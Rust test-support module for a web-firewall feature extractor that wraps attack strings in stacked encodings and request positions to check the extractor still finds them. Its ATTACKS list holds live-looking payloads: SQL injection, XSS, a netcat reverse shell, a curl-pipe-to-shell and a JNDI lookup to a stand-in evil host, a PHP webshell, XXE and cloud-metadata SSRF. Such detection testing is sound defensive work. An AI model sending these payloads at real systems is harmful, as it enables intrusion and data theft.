//! Attacks under stacks of encoders, placed somewhere in a request; made from a string of choices, so that a fuzzer and a
//! property test share it.

#![allow(
    unreachable_pub,
    reason = "the fuzz target of the same name includes this file as a module of its own"
)]

#[path = "encoders.rs"]
mod encoders;

use encoders::{ENCODERS, escape, json_escaped, utf16};
use std::io::Write as _;
use weir_features::{Extractor, Marks, RequestView, Scratch};

/// Attacks of every kind, each a fixed point of the decoder.
pub const ATTACKS: [&str; 34] = [
    "' or '1'='1' -- x",
    "1 union select username,password from users",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "../../../../etc/passwd",
    "; cat /etc/passwd",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "$(curl http://evil.example/x.sh|sh)",
    "{{7*7}}{{config.items()}}",
    "${jndi:ldap://evil.example/a}",
    "<?php system($_GET['cmd']); ?>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
    "*)(uid=*))(|(uid=*",
    "' and sleep(5)#",
    "1; drop table users--",
    "'||(select 1 from dual)||'",
    "() { :; }; /bin/bash -c 'id'",
    "<iframe src=javascript:alert(1)>",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "%{(#a=@java.lang.System@getProperty('os.name'))}",
    "<!--#exec cmd=\"id\" -->",
    "__proto__[isAdmin]=true",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "gopher://127.0.0.1:6379/_info",
    "php://filter/convert.base64-encode/resource=index.php",
    "1' waitfor delay '0:0:5'--",
    "' or extractvalue(1,concat(126,version()))-- -",
    "admin')) or ('1'='1",
    "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    "cat</etc/passwd>&2;id",
    "eval(atob('alert'))",
];

/// What a random text around it may not hide.
const MARKER: &str = "<script>alert(7331)</script>";

/// Numbers out of the bytes of a fuzzer; zeros when they run out.
pub struct Choices<'a>(pub &'a [u8]);

impl Choices<'_> {
    fn below(&mut self, bound: usize) -> usize {
        let (first, rest) = self.0.split_first().unwrap_or((&0, &[]));
        self.0 = rest;
        usize::from(*first) % bound
    }
}

/// A request, the text that must be found in it, and how it was made.
#[derive(Debug)]
pub struct Case {
    target: Vec<u8>,
    headers: Vec<(&'static str, Vec<u8>)>,
    body: Vec<u8>,
    needle: String,
    steps: Vec<&'static str>,
    is_path: bool,
}

/// A request out of `choices`.
pub fn build(choices: &mut Choices<'_>) -> Case {
    let mut text = payload(choices);
    let needle = text.1;
    let mut steps = Vec::new();
    for _ in 0..1 + choices.below(4) {
        let (name, encode) = ENCODERS[choices.below(ENCODERS.len())];
        steps.push(name);
        text.0 = encode(&text.0);
        // A stack of the wordiest encoders would only test the windows of long values.
        if text.0.len() > 700 {
            break;
        }
    }
    let mut case = Case {
        target: b"/".to_vec(),
        headers: Vec::new(),
        body: Vec::new(),
        needle,
        steps,
        is_path: false,
    };
    place(&mut case, &text.0, choices);
    case
}

/// An attack, or a random text with a marker in it; and what must be found.
fn payload(choices: &mut Choices<'_>) -> (String, String) {
    if choices.below(2) == 0 {
        let attack = ATTACKS[choices.below(ATTACKS.len())];
        return (attack.to_owned(), attack.to_owned());
    }
    let mut text = String::new();
    for _ in 0..choices.below(12) {
        text.push(char::from(b' ' + choices.below(95) as u8));
    }
    text.push_str(MARKER);
    for _ in 0..choices.below(12) {
        text.push(char::from(b' ' + choices.below(95) as u8));
    }
    (text, MARKER.to_owned())
}

fn in_url(text: &str) -> String {
    escape(
        text,
        |c| c.is_ascii_alphanumeric() || "-_.~".contains(c),
        |byte| format!("%{byte:02x}"),
    )
}

fn place(case: &mut Case, text: &str, choices: &mut Choices<'_>) {
    match choices.below(12) {
        0 | 1 => {
            case.steps.push("query");
            case.target = format!("/s?a=1&q={}&b=2", in_url(text)).into_bytes();
        }
        2 => {
            case.steps.push("cookie");
            case.headers.push((
                "Cookie",
                format!("s=1; v={}; t=2", in_url(text)).into_bytes(),
            ));
        }
        3 => {
            case.steps.push("header");
            case.headers
                .push(("X-Api-Version", text.as_bytes().to_vec()));
        }
        4 => {
            case.steps.push("path");
            case.is_path = true;
            case.target = format!("/a/{}/b", in_url(text)).into_bytes();
        }
        5 => {
            case.steps.push("referer");
            let referer = format!("https://example.org/?q={}", in_url(text));
            case.headers.push(("Referer", referer.into_bytes()));
        }
        placement => in_body(case, text, placement, choices),
    }
}

fn in_body(case: &mut Case, text: &str, placement: usize, choices: &mut Choices<'_>) {
    let part = |head: &str| {
        format!(
            "--xyz\r\nContent-Disposition: form-data; name=\"a\"{head}\r\n\r\n{text}\r\n--xyz--\r\n"
        )
    };
    let (name, kind, body) = match placement {
        6 | 7 => (
            "form",
            "application/x-www-form-urlencoded",
            format!("a=1&q={}&b=2", in_url(text)),
        ),
        8 => (
            "JSON",
            "application/json",
            format!(
                "{{\"a\":[1,{{\"q\":\"{}\"}}],\"b\":true}}",
                json_escaped(text)
            ),
        ),
        9 => ("part", "multipart/form-data; boundary=xyz", part("")),
        10 => (
            "file",
            "multipart/form-data; boundary=xyz",
            part("; filename=\"a.txt\"\r\nContent-Type: text/plain"),
        ),
        _ => (
            "XML",
            "text/xml",
            format!(
                "<?xml version=\"1.0\"?><a><b>x</b><c d=\"1\">{}</c></a>",
                text.replace('&', "&amp;").replace('<', "&lt;")
            ),
        ),
    };
    case.steps.push(name);
    case.headers
        .push(("Content-Type", kind.as_bytes().to_vec()));
    case.body = match choices.below(9) {
        0 => {
            case.steps.push("UTF-16LE with mark");
            [b"\xff\xfe".to_vec(), utf16(&body, u16::to_le_bytes)].concat()
        }
        1 => {
            case.steps.push("UTF-16BE");
            utf16(&body, u16::to_be_bytes)
        }
        2 => {
            case.steps.push("gzip");
            case.headers.push(("Content-Encoding", b"gzip".to_vec()));
            let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
            gzip.write_all(body.as_bytes()).unwrap_or_default();
            gzip.finish().unwrap_or_default()
        }
        3 => {
            case.steps.push("raw deflate");
            case.headers.push(("Content-Encoding", b"deflate".to_vec()));
            let mut raw =
                flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::fast());
            raw.write_all(body.as_bytes()).unwrap_or_default();
            raw.finish().unwrap_or_default()
        }
        4 => {
            case.steps.push("deflate");
            case.headers.push(("Content-Encoding", b"deflate".to_vec()));
            let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::fast());
            zlib.write_all(body.as_bytes()).unwrap_or_default();
            zlib.finish().unwrap_or_default()
        }
        5 => {
            case.steps.push("br");
            case.headers.push(("Content-Encoding", b"br".to_vec()));
            let mut packed = Vec::new();
            let settings = brotli::enc::BrotliEncoderParams::default();
            brotli::BrotliCompress(&mut body.as_bytes(), &mut packed, &settings)
                .unwrap_or_default();
            packed
        }
        _ => body.into_bytes(),
    };
}

/// Lower case, every run of blanks one blank; paths as servers write them.
fn normal(text: &[u8], is_path: bool) -> String {
    let text = String::from_utf8_lossy(text).to_lowercase();
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        let c = match c {
            '\\' if is_path => '/',
            c if c.is_whitespace() => ' ',
            c => c,
        };
        if (c == ' ' || is_path && c == '/') && out.ends_with(c) {
            continue;
        }
        out.push(c);
    }
    if is_path {
        out.replace("/./", "/")
    } else {
        out
    }
}

/// Says what was missed, when no field holds the attack and none says that a limit was reached.
pub fn missed(case: &Case, scratch: &mut Scratch) -> Option<String> {
    let headers: Vec<(&[u8], &[u8])> = case
        .headers
        .iter()
        .map(|(name, value)| (name.as_bytes(), value.as_slice()))
        .collect();
    let request = RequestView {
        method: b"POST",
        target: &case.target,
        headers: &headers,
        body: &case.body,
        body_truncated: false,
    };
    let needle = normal(case.needle.as_bytes(), case.is_path);
    let fields = Extractor::shared().extract(&request, scratch);
    let found = fields.iter().any(|field| {
        field.marks.contains(Marks::LAYER_LIMIT)
            || field.marks.contains(Marks::WINDOW)
            || normal(field.value, case.is_path).contains(&needle)
    });
    if found {
        return None;
    }
    let fields: Vec<String> = fields
        .iter()
        .map(|field| {
            format!(
                "{}={}",
                String::from_utf8_lossy(field.key),
                String::from_utf8_lossy(field.value)
            )
        })
        .collect();
    Some(format!(
        "{} under {:?} is in none of {fields:#?}",
        case.needle, case.steps
    ))
}
